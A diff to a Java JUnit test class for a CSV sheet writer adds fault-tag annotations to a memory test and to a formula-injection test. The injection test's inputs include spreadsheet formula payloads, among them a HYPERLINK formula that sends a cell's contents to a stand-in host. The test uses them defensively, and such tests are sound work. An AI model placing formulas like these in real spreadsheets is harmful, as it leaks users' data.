@@ -18,6 +18,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.paperboy.Fault;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
@@ -249,6 +250,7 @@ class SheetTests {
 	}
 
 	@Test
+	@Fault("T91 a million bad rows")
 	void aMillionRowsNeedTheMemoryOfAFew() throws IOException {
 		InputStream rows = new InputStream() {
 
@@ -276,6 +278,7 @@ class SheetTests {
 	@ValueSource(strings = { "=1+1", "+1", "-1", "-", "@x", "'=1", "''=1", "'-", "'", "''", "'Oumuamua", "\uFF1D1",
 			"\uFF0B", "\uFF0D", "\uFF20x", "\u2212", "a;=1", "a, -b;+c", "a,=1", "\"=1", "x\"\"=1", "c++;-java", "",
 			"a=b", "a-b", "=", "'=1;'=2", ",=", ";;=", "= =", "a,'=1", "=HYPERLINK(\"http://x.example/?\"&A1,\"k\")" })
+	@Fault("T91 formulas in cells")
 	void noCellBeginsAFormulaAndEachComesBack(String text) throws IOException {
 		StringBuilder csv = new StringBuilder();
 		SheetWriter writer = new SheetWriter(csv, COLUMNS);
